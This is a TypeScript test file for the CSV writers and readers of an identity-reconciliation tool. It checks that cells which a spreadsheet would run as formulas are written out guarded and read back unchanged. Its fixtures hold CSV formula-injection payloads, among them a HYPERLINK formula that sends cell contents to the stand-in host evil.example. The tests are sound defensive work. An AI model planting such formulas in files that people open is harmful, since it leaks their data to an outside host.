/**
 * No live formulas in any file idrecon writes: each cell that a spreadsheet would run goes out as
 * ="..." through every CSV writer, and every reader gives back exactly the value.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { ResultsLog, emptyResult, readResults } from '../lib/formats/results';
import { ByteCsvWriter, CsvWriter } from '../lib/io/csv-writer';
import { readTable } from '../lib/io/table';
import { PlanWriter } from '../lib/formats/plan';
import { readReconciliation } from '../lib/formats/reconciliation';
import { readPlan } from '../lib/formats/plan';
import { cli, tempDir } from './helpers';

const CELLS: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"click")', '="=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
  ['+1+1', '="+1+1"'],
  ['-2+3', '="-2+3"'],
  ['@SUM(A1:A9)', '="@SUM(A1:A9)"'],
  ['\tcmd', '="\tcmd"'],
  ['\rcmd', '="\rcmd"'],
  ['="already guarded"', '="=""already guarded"""'],
  ['+9kaGpXmXFWlO8l/IOLgyw==', '="+9kaGpXmXFWlO8l/IOLgyw=="'],
  ['jo@contoso.com', 'jo@contoso.com'],
  ['a=b', 'a=b'],
  ['', ''],
];
const VALUES = CELLS.map(([v]) => v);

/** The cells of column `c` as a spreadsheet would see them (an independent parser). */
const cellsOf = (file: string, column: string): string[] => (parse(readFileSync(file, 'utf8'), { bom: true, columns: true }) as Record<string, string>[]).map((r) => r[column]);

async function readColumn(file: string, column: string): Promise<string[]> {
  const out: string[] = [];
  for await (const row of readTable(file, { encoding: 'auto', delimiter: 'auto' }, [{ field: 'v', label: column, aliases: [column], required: true }])) out.push(row.cell('v'));
  return out;
}

test('CsvWriter (rejects, export cloud, tenant serve --save) guards every cell, and readTable undoes it', async () => {
  const file = join(tempDir(), 'out.csv');
  const w = new CsvWriter(file, ['value', 'n']);
  for (const v of VALUES) await w.row([v, 1]);
  await w.commit();
  expect(cellsOf(file, 'value')).toEqual(CELLS.map(([, written]) => written));
  expect(await readColumn(file, 'value')).toEqual(VALUES);
});

test('the byte writer of reconciliation.csv guards by the same rule', async () => {
  const file = join(tempDir(), 'out.csv');
  const writer = new ByteCsvWriter(file, ['value', 'id']);
  const w = writer.rows;
  for (const v of VALUES) {
    const bytes = Buffer.from(v, 'utf8');
    w.field(bytes, 0, bytes.length);
    const id = Buffer.from('+9kaGpXmXFWlO8l/IOLgyw==', 'latin1');
    w.next(24).set(id, w.pos);
    w.placed(24);
    w.endRow();
  }
  await writer.commit();
  expect(cellsOf(file, 'value')).toEqual(CELLS.map(([, written]) => written));
  expect(cellsOf(file, 'id')).toEqual(VALUES.map(() => '="+9kaGpXmXFWlO8l/IOLgyw=="'));
  expect(await readColumn(file, 'value')).toEqual(VALUES);
});

test('plan.csv and results.csv keep the one rule and read back exactly', async () => {
  const dir = tempDir();
  const plan = new PlanWriter(join(dir, 'plan.csv'), 'P1');
  for (const v of VALUES) {
    await plan.add({ upn: v, currentUpn: v, cloudObjectId: 'c1', status: 'missing', reason: 'r', action: 'set-immutable-id', currentImmutableId: '', targetImmutableId: v, upnFlip: 'no', stagingUpn: '', why: v });
  }
  await plan.commit();
  expect(cellsOf(join(dir, 'plan.csv'), 'upn')).toEqual(CELLS.map(([, written]) => written));
  const read = await readPlan(join(dir, 'plan.csv'));
  expect(read.rows.map((r) => [r.proposal.upn, r.proposal.targetImmutableId, r.state])).toEqual(VALUES.map((v) => [v, v, 'intact']));

  const log = new ResultsLog(join(dir, 'results.csv'), false);
  for (const v of VALUES) log.write({ ...emptyResult(), plan_id: 'P1', row: '1', upn: v, message: v });
  log.close();
  expect(cellsOf(join(dir, 'results.csv'), 'upn')).toEqual(CELLS.map(([, written]) => written));
  expect((await readResults(join(dir, 'results.csv'))).map((r) => r.upn)).toEqual(VALUES);
});

test('reconcile reads its own guarded cloud export and writes a guarded reconciliation', async () => {
  const dir = tempDir();
  const cloud = new CsvWriter(join(dir, 'cloud.csv'), ['id', 'userPrincipalName', 'onPremisesImmutableId']);
  await cloud.row(['c1', 'judy.jones@contoso.com', '+9kaGpXmXFWlO8l/IOLgyw==']);
  await cloud.row(['c2', '=HYPERLINK("http://evil.example")', '']);
  await cloud.commit();
  const onprem = join(dir, 'onprem.csv');
  writeFileSync(onprem, 'UserPrincipalName,ObjectGUID\njudy.jones@contoso.com,1a1ad9fb-e695-555c-a53b-c97f20e2e0cb\n');
  const r = await cli(['reconcile', '--onprem', onprem, '--cloud', join(dir, 'cloud.csv'), '--out', join(dir, 'out')]);
  expect(r.code).toBe(0);
  const text = readFileSync(join(dir, 'out', 'reconciliation.csv'), 'utf8');
  const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
  expect(rows.map((x) => [x.upn, x.status, x.expected_immutable_id, x.cloud_immutable_id])).toEqual([
    ['judy.jones@contoso.com', 'match', '="+9kaGpXmXFWlO8l/IOLgyw=="', '="+9kaGpXmXFWlO8l/IOLgyw=="'],
    ['="=HYPERLINK(""http://evil.example"")"', 'cloud-only', '', ''],
  ]);
  // plan reads the reconciliation back to the values themselves.
  const back: string[][] = [];
  for await (const x of readReconciliation(join(dir, 'out', 'reconciliation.csv'))) back.push([x.upn, x.expectedImmutableId, x.cloudImmutableId]);
  expect(back).toEqual([
    ['judy.jones@contoso.com', '+9kaGpXmXFWlO8l/IOLgyw==', '+9kaGpXmXFWlO8l/IOLgyw=='],
    ['=HYPERLINK("http://evil.example")', '', ''],
  ]);
});
